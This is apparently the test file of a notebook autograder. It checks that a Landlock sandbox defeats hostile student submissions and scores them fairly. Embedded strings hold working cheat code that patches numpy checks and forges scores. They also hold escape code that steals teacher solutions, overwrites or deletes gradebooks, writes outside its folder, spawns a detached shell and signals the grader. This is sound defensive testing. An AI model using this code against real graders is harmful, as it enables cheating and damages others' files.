"""Graded assignments (assignments/NN_name/): hand-out versions, grading, and grading hostile code.

For every assignment folder, the README's command

    python scripts/grade_assignments.py grade assignments/NN_name SUBMISSIONS --out scores.csv

grades a folder holding a correct submission, a wrong one (ci/wrong.json says which answers and the
score they deserve), the student version as handed out, and a hostile one. The hostile submission
carries the wrong answers and then tries to read the hidden tests and the teacher's solutions, to
copy a classmate, to replace the check functions and turn its answers into objects equal to
anything, to print a fake score, to write outside its folder (the score table, the assignment's
source, the repository, home, /tmp, numpy's folder, other submissions, also from a detached
process), to connect to a local TCP port and to signal the grading process. It must get exactly
what its real answers deserve, and the teacher's files must be untouched.

The file-system part of that protection is Landlock (Linux >= 5.13). On a kernel without it these
tests skip loudly, except in CI, where they must run.
"""
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "assignments" / "tooling"))

from bookgrader.assignment import (HIDDEN_MARKERS, SOLUTION_MARKERS, Assignment,  # noqa: E402
                                   solved_notebook, strip_region)
from bookgrader.cli import in_sync  # noqa: E402
from bookgrader.grade import grade_notebook, names_used, student_names  # noqa: E402
from bookgrader.sandbox import Limits, _carve, landlock_available  # noqa: E402

ASSIGNMENTS = sorted(p for p in (ROOT / "assignments").glob("[0-9][0-9]_*") if p.is_dir())
IDS = [p.name for p in ASSIGNMENTS]
LANDLOCK = landlock_available()


def require_landlock():
    if LANDLOCK:
        return
    if os.environ.get("CI") == "true":
        pytest.fail("CI must run the hostile-submission tests, but this kernel offers no Landlock")
    pytest.skip("SKIPPED LOUDLY: this kernel offers no Landlock, so a submission could read and write "
                "the teacher's files; the hostile-submission tests need it (they run in CI)")


def wrong_case(directory):
    return json.loads((directory / "ci" / "wrong.json").read_text())


def deserved(assignment, wrong):
    return {t.grade_id: float(wrong["expected"][t.grade_id]) for t in assignment.tests}


def digest_tree(folder):
    """sha256 of every file below a folder (bytecode caches aside), by relative path."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def cheat_names(assignment, wrong):
    """Names used only by the tests the wrong answers fail: the hostile code fakes exactly these."""
    prelude = assignment.prelude()
    failing, passing = set(), set()
    for t in assignment.tests:
        (passing if wrong["expected"][t.grade_id] else failing).update(student_names(t.source, prelude))
    return sorted(failing - passing)


# In-kernel cheats: these fool any grader that runs its tests in the submission's own interpreter.
CHEATS = r'''
import builtins, json, sys
import numpy as np

print("Score: 100 / 100")
print(json.dumps({"points": 100, "max": 8, "status": "ok"}))
sys.stderr.write("TOTAL 8/8\n")
for name in ("scores.csv", "results.json", "gradebook.db", "results.pkl"):
    try:
        open(name, "w").write("student,points\nmallory,100\n")
    except Exception:
        pass

np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.shape = lambda *a, **k: Anything()
builtins.AssertionError = type("NotAnError", (Exception,), {})
sys.excepthook = lambda *a: None
try:
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)  # swallow every error
except Exception:
    pass


class Anything(float):
    """Equal to everything, close to everything, absorbs arithmetic (numpy's too)."""
    __array_ufunc__ = None  # numpy operators hand over to the methods below
    def __new__(cls):
        return float.__new__(cls, 0.0)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def _same(self, *other): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _same
    __pow__ = __matmul__ = __rmatmul__ = __abs__ = __neg__ = __getitem__ = _same
    def __call__(self, *args, **kwargs): return self
    def __len__(self): return 3
    def __bool__(self): return True
    def __int__(self): return 9_990_000
    @property
    def shape(self): return Anything()


for _name in CHEAT_NAMES:  # every answer the tests look at: a number, an array and a function at once
    globals()[_name] = Anything()
'''

# Everything that needs the file system and the network.
ESCAPES = r'''
import glob, os, pwd, socket, subprocess

found, stolen = [], []
candidates = set(glob.glob("../**/*.ipynb", recursive=True))
roots = {os.path.dirname(sys.prefix), CONFIG["repo"], f"/proc/{os.getppid()}/cwd"}
try:
    import reparam
    roots.add(os.path.dirname(os.path.dirname(os.path.dirname(reparam.__file__))))
except Exception:
    pass
try:
    roots.update(a for a in open(f"/proc/{os.getppid()}/cmdline").read().split("\0") if a.startswith("/"))
except Exception:
    pass
for root in roots:
    candidates.update(glob.glob(os.path.join(root, "assignments", "*", "source", "*.ipynb")))
    candidates.update(glob.glob(os.path.join(root, "source", "*.ipynb")))
    candidates.update(glob.glob(os.path.join(root, "*.ipynb")) + glob.glob(os.path.join(root, "*", "*.ipynb")))
candidates.update([CONFIG["source"], CONFIG["classmate"]])
for i, target in enumerate([CONFIG["source"], CONFIG["classmate"]]):
    for make in (os.symlink, os.link):
        try:
            make(target, f"copy{i}{make.__name__}.ipynb")
            candidates.add(f"copy{i}{make.__name__}.ipynb")
        except Exception:
            pass
for path in sorted(candidates):
    if path.endswith("submission.ipynb"):
        continue
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    found.append(path)
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            stolen.append("".join(cell["source"]))
for code in stolen:  # the teacher's solutions, or a classmate's answers
    try:
        exec(code, globals())
    except BaseException:
        pass

targets = CONFIG["write_dirs"]
if CONFIG["everywhere"]:
    targets += [pwd.getpwuid(os.getuid()).pw_dir, "/tmp", os.path.dirname(sys.prefix), os.path.dirname(np.__file__)]
for directory in targets:
    try:
        open(os.path.join(directory, CONFIG["marker"]), "w").write("pwned")
    except Exception:
        pass
for path in CONFIG["victims"]:
    try:
        open(path, "a").write("mallory,100\n")
    except Exception:
        pass
    try:
        os.remove(path)
    except Exception:
        pass
try:
    late = f"sleep 1; echo late > {CONFIG['write_dirs'][-1]}/{CONFIG['marker']}-late; echo mallory,100 >> {CONFIG['out']}"
    subprocess.Popen(["/bin/sh", "-c", late], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
try:
    socket.create_connection(("127.0.0.1", CONFIG["port"]), timeout=1).sendall(b"leak")
except Exception:
    pass
if CONFIG["everywhere"]:
    try:
        os.kill(os.getppid(), 15)  # the grading process
    except Exception:
        pass
'''


def hostile_notebook(assignment, wrong, config, *, escapes=True):
    """The wrong submission's answers, and right after the given code a cell of attacks. Every name
    that only the failed tests look at is replaced by an object that equals anything (also at the
    end of the answer cell that defines it, so that the answer does not replace the stand-in)."""
    cheats = cheat_names(assignment, wrong)
    answers = {}
    for grade_id, source in wrong["answers"].items():
        faked = sorted(names_used(source)[1] & set(cheats))
        answers[grade_id] = source + "".join(f"\n{name} = Anything()" for name in faked)
    notebook = solved_notebook(assignment, answers)
    notebook.cells.insert(1, nbformat.v4.new_code_cell(f"CHEAT_NAMES = {cheats!r}\n" + CHEATS))
    if escapes:  # last, so that what it steals is what the notebook ends with
        notebook.cells.append(nbformat.v4.new_code_cell(f"CONFIG = {config!r}\n" + ESCAPES))
    return notebook


def read_scores(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


# ------------------------------------------------------------------------------------------------
def test_every_assignment_folder_is_complete():
    assert len(ASSIGNMENTS) >= 5
    for directory in ASSIGNMENTS:
        assignment = Assignment.load(directory)
        assert assignment.student_path.exists(), f"{directory.name}: run release"
        assert assignment.max_points > 0 and (directory / "ci" / "wrong.json").exists()
        assert set(wrong_case(directory)["expected"]) == {t.grade_id for t in assignment.tests}


@pytest.mark.parametrize("directory", ASSIGNMENTS, ids=IDS)
def test_student_version_has_no_solutions_and_no_hidden_tests(directory):
    assignment = Assignment.load(directory)
    assert in_sync(assignment), "the student version is not what `release` makes from the source"
    text = assignment.student_path.read_text(encoding="utf-8")
    for marker in (*SOLUTION_MARKERS, *HIDDEN_MARKERS, "BEGIN SOLUTION", "HIDDEN TESTS"):
        assert marker not in text
    student = nbformat.reads(text, as_version=4)
    assert all(not c.get("outputs") for c in student.cells if c.cell_type == "code")
    student_code = "\n".join(c.source for c in student.cells)
    # every line that only the solutions or the hidden tests contain is absent from the student version
    source = assignment.notebook
    public = "\n".join(strip_region(strip_region(c.source, HIDDEN_MARKERS), SOLUTION_MARKERS) for c in source.cells)
    secret_lines = set()
    for cell in source.cells:
        for begin, end in (SOLUTION_MARKERS, HIDDEN_MARKERS):
            inside = False
            for line in cell.source.split("\n"):
                if line.strip().startswith(begin):
                    inside = True
                elif line.strip().startswith(end):
                    inside = False
                elif inside and len(line.strip()) >= 10 and line.strip() not in public:
                    secret_lines.add(line.strip())
    assert secret_lines, "no solution or hidden-test lines found in the source"
    leaked = [line for line in secret_lines if line in student_code]
    assert not leaked, f"the student version contains: {leaked[:3]}"


@pytest.fixture(scope="module")
def graded_folders(tmp_path_factory):
    """Grade, for every assignment at once (in parallel), a folder with a correct, a wrong, the
    handed-out and (where Landlock protects the machine) a hostile submission, with the README's
    command. Returns what each test needs."""
    base = tmp_path_factory.mktemp("grading")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    marker = f"HOSTILE-{uuid.uuid4().hex[:12]}"
    before = digest_tree(ROOT / "assignments")
    runs = {}
    for directory in ASSIGNMENTS:
        assignment = Assignment.load(directory)
        wrong = wrong_case(directory)
        work = base / directory.name
        submissions = work / "submissions"
        (submissions / "bob").mkdir(parents=True)
        out = work / "scores.csv"
        gradebook = work / "gradebook_last_term.csv"
        gradebook.write_text("student,points\nalice,8\n")
        nbformat.write(solved_notebook(assignment), submissions / "alice.ipynb")
        nbformat.write(solved_notebook(assignment, wrong["answers"]), submissions / "bob" / "work.ipynb")
        nbformat.write(nbformat.read(assignment.student_path, as_version=4), submissions / "carol.ipynb")
        config = {"repo": str(ROOT), "source": str(assignment.source_path), "out": str(out), "port": port,
                  "classmate": str(submissions / "alice.ipynb"), "marker": marker, "everywhere": True,
                  "write_dirs": [str(ROOT), str(directory), str(directory / "source"), str(submissions), "/tmp"],
                  "victims": [str(out), str(gradebook), str(assignment.source_path), str(assignment.student_path),
                              str(submissions / "alice.ipynb"), str(submissions / "bob" / "work.ipynb")]}
        if LANDLOCK:  # without it the hostile submission would damage this machine
            nbformat.write(hostile_notebook(assignment, wrong, config), submissions / "mallory.ipynb")
        submitted = digest_tree(submissions)
        command = [sys.executable, str(ROOT / "scripts" / "grade_assignments.py"), "grade", str(directory),
                   str(submissions), "--out", str(out)]
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=work,
                                   env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
        runs[directory.name] = dict(assignment=assignment, wrong=wrong, process=process, out=out, work=work,
                                    gradebook=gradebook, submissions=submissions, submitted=submitted)
    for run in runs.values():
        run["stdout"], run["stderr"] = run["process"].communicate(timeout=300)
        run["returncode"] = run["process"].returncode
    time.sleep(1.5)  # let a detached process of a hostile submission try its late writes
    try:
        connection = listener.accept()[0]
        connection.close()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    after = digest_tree(ROOT / "assignments")
    planted = [p for p in [ROOT / marker, Path("/tmp") / marker, Path("/tmp") / f"{marker}-late",
                           Path.home() / marker, Path(sys.prefix).parent / marker,
                           Path(__import__("numpy").__file__).parent / marker,
                           *(ROOT / "assignments").rglob(f"{marker}*"), *base.rglob(f"{marker}*")]
               if p.exists()]
    for p in planted:  # clean up before failing, so that a broken sandbox leaves nothing behind
        p.unlink()
    return dict(runs=runs, before=before, after=after, planted=planted, connected=connected)


@pytest.mark.parametrize("directory", ASSIGNMENTS, ids=IDS)
def test_grading_a_folder_gives_each_submission_its_score(graded_folders, directory):
    run = graded_folders["runs"][directory.name]
    assert run["returncode"] == 0, run["stderr"][-3000:]
    assignment, expected = run["assignment"], deserved(run["assignment"], run["wrong"])
    scores = read_scores(run["out"])
    assert sorted(scores) == ["alice", "bob", "carol"] + (["mallory"] if LANDLOCK else [])
    full = str(int(assignment.max_points))
    assert scores["alice"]["points"] == full and scores["alice"]["max"] == full
    assert scores["alice"]["status"] == "ok"
    assert float(scores["bob"]["points"]) == sum(expected.values()) < assignment.max_points
    for grade_id, points in expected.items():
        assert float(scores["bob"][grade_id]) == points, grade_id
    assert float(scores["carol"]["points"]) == 0.0
    assert ("sandbox landlock" if LANDLOCK else "sandbox none") in run["stderr"]


@pytest.mark.parametrize("directory", ASSIGNMENTS, ids=IDS)
def test_a_hostile_submission_gets_what_its_answers_deserve(graded_folders, directory):
    require_landlock()
    run = graded_folders["runs"][directory.name]
    assert run["returncode"] == 0, run["stderr"][-3000:]
    expected = deserved(run["assignment"], run["wrong"])
    mallory = read_scores(run["out"])["mallory"]
    for grade_id, points in expected.items():
        assert float(mallory[grade_id]) == points, grade_id
    assert float(mallory["points"]) == sum(expected.values())
    # the score table is the teacher's, whole: no line appended, none replaced
    assert run["out"].read_text().count("\n") == 5 and "100" not in run["out"].read_text()


@pytest.mark.parametrize("directory", ASSIGNMENTS, ids=IDS)
def test_a_hostile_submission_leaves_the_teachers_files_alone(graded_folders, directory):
    require_landlock()
    run = graded_folders["runs"][directory.name]
    assert graded_folders["after"] == graded_folders["before"], "files under assignments/ changed"
    assert digest_tree(run["submissions"]) == run["submitted"], "a submission was changed"
    assert run["gradebook"].read_text() == "student,points\nalice,8\n"
    assert not graded_folders["planted"], f"files written outside the sandbox: {graded_folders['planted']}"
    assert not graded_folders["connected"], "a submission reached a local TCP port"
    leftovers = [p.name for p in run["work"].iterdir()]
    assert sorted(leftovers) == ["gradebook_last_term.csv", "scores.csv", "submissions"]


# ------------------------------------------------------------------------------------------------
# The same cheats with the file-system sandbox switched off: the separate process alone defeats
# everything that happens inside the submission's interpreter. The control experiment shows that
# they do fool nbgrader's own autograde, which runs the tests in the submission's kernel.
CASE = ROOT / "assignments" / "02_score_function"


NBGRADER_SCRIPT = """
import sys, warnings
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI
from traitlets.config import Config

warnings.simplefilter("ignore")
course = sys.argv[1]
config = Config()
config.CourseDirectory.root = course
api = NbGraderAPI(config=config)
assert api.generate_assignment("ps", force=True)["success"]
assert api.autograde("ps", "mallory", force=True, create=True)["success"]
with Gradebook(f"sqlite:///{course}/gradebook.db") as gradebook:
    print("SCORE", gradebook.find_submission("ps", "mallory").score)
"""


def _nbgrader_autograde(assignment, submission, tmp_path):
    """Grade one submission with nbgrader's own autograde, in a scratch course; return its score."""
    course = tmp_path / "course"
    (course / "source" / "ps").mkdir(parents=True)
    shutil.copyfile(assignment.source_path, course / "source" / "ps" / "ps.ipynb")
    (course / "submitted" / "mallory" / "ps").mkdir(parents=True)
    shutil.copyfile(submission, course / "submitted" / "mallory" / "ps" / "ps.ipynb")
    env = {**os.environ, "JUPYTER_CONFIG_DIR": str(tmp_path / "jupyter"), "IPYTHONDIR": str(tmp_path / "ipython"),
           "MPLBACKEND": "Agg", "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    out = subprocess.run([sys.executable, "-c", NBGRADER_SCRIPT, str(course)], cwd=course, env=env,
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-3000:]
    return float(out.stdout.rsplit("SCORE", 1)[1])


def test_in_kernel_cheats_fool_nbgrader_autograde_but_not_this_grader(tmp_path):
    assignment = Assignment.load(CASE)
    wrong = wrong_case(CASE)
    path = tmp_path / "mallory.ipynb"
    nbformat.write(hostile_notebook(assignment, wrong, {}, escapes=False), path)
    assert _nbgrader_autograde(assignment, path, tmp_path) == assignment.max_points  # the attack is real
    result = grade_notebook(assignment, path, "mallory", sandbox="none")
    assert result.sandbox == "none"
    assert result.points == deserved(assignment, wrong)


def test_the_hostile_escapes_succeed_without_landlock(tmp_path):
    """Control experiment for the Landlock tests above: the same hostile code, graded with the
    file-system sandbox off, against a scratch copy of the assignment (so nothing real is at risk),
    does steal the solutions, copy and delete a classmate's notebook, write outside its folder, and
    reach a local TCP port. So the hostile tests above fail if Landlock stops working."""
    require_landlock()  # only meaningful where the Landlock tests run
    scratch = tmp_path / "book"
    shutil.copytree(CASE, scratch / "assignments" / CASE.name, ignore=shutil.ignore_patterns("__pycache__"))
    assignment = Assignment.load(scratch / "assignments" / CASE.name)
    wrong = wrong_case(CASE)
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    nbformat.write(solved_notebook(assignment), submissions / "alice.ipynb")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    marker = f"CONTROL-{uuid.uuid4().hex[:8]}"
    config = {"repo": str(scratch), "source": str(assignment.source_path), "out": str(tmp_path / "scores.csv"),
              "port": listener.getsockname()[1], "classmate": str(submissions / "alice.ipynb"), "marker": marker,
              "everywhere": False, "write_dirs": [str(scratch), str(tmp_path)],
              "victims": [str(submissions / "alice.ipynb")]}
    nbformat.write(hostile_notebook(assignment, wrong, config), tmp_path / "mallory.ipynb")
    result = grade_notebook(assignment, tmp_path / "mallory.ipynb", "mallory", sandbox="none")
    time.sleep(1.5)
    assert result.total == assignment.max_points  # it found and ran the teacher's solutions
    assert (scratch / marker).exists() and (tmp_path / marker).exists() and (tmp_path / f"{marker}-late").exists()
    assert not (submissions / "alice.ipynb").exists()
    listener.accept()[0].close()  # raises BlockingIOError if nobody connected
    listener.close()


def test_fake_results_written_into_every_file_descriptor_are_ignored(tmp_path):
    assignment = Assignment.load(CASE)
    notebook = nbformat.read(assignment.student_path, as_version=4)
    fake = {"ready": True, "cells": [], "sandbox": "landlock", "points": 8, "score": "8/8"}
    notebook.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(f"""
        import json, os
        lines = [json.dumps({fake!r}), json.dumps({{"id": 1, "values": {{}}}}), "Score: 8 / 8"]
        for fd in range(0, 64):
            for line in lines:
                try:
                    os.write(fd, (line + "\\n").encode())
                except OSError:
                    pass
    """)))
    path = tmp_path / "forger.ipynb"
    nbformat.write(notebook, path)
    result = grade_notebook(assignment, path, "forger")
    assert result.total == 0.0
    assert result.sandbox != "landlock"  # the report about the sandbox is read before student code runs


def test_time_and_memory_limits(tmp_path):
    """A cell that loops is interrupted and the rest still runs; a cell that allocates too much
    fails alone; a submission that blocks the interruption is stopped at the deadline."""
    assignment = Assignment.load(CASE)
    solved = solved_notebook(assignment)
    for source in ("import time\ntime.sleep(1000)", "hog = bytearray(64 * 2**30)"):
        solved.cells.insert(2, nbformat.v4.new_code_cell(source))
    path = tmp_path / "slow.ipynb"
    nbformat.write(solved, path)
    limits = Limits(total_seconds=60, cell_seconds=4.0)  # 4 s: enough for the import cell on a busy machine
    result = grade_notebook(assignment, path, "slow", limits=limits)
    assert result.total == assignment.max_points and result.status == "ok"
    assert result.cells.count("error: CellTimeout") == 1 and result.cells.count("error: MemoryError") == 1

    stuck = nbformat.read(assignment.student_path, as_version=4)
    stuck.cells.insert(1, nbformat.v4.new_code_cell(
        "import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(1000)"))
    path = tmp_path / "stuck.ipynb"
    nbformat.write(stuck, path)
    start = time.monotonic()
    result = grade_notebook(assignment, path, "stuck", limits=Limits(total_seconds=3, cell_seconds=1.0))
    assert time.monotonic() - start < 10
    assert result.total == 0.0 and result.status.startswith("error: no answer in time")


def test_readable_folders_are_carved_around_protected_ones(tmp_path):
    for name in ("a/b/c", "a/b/d", "a/e", "f"):
        (tmp_path / name).mkdir(parents=True)
    carved = _carve([tmp_path / "a", tmp_path / "f"], [tmp_path / "a" / "b" / "c"])
    assert sorted(str(p.relative_to(tmp_path)) for p in carved) == ["a/b/d", "a/e", "f"]
    assert _carve([tmp_path / "a" / "b"], [tmp_path / "a"]) == []
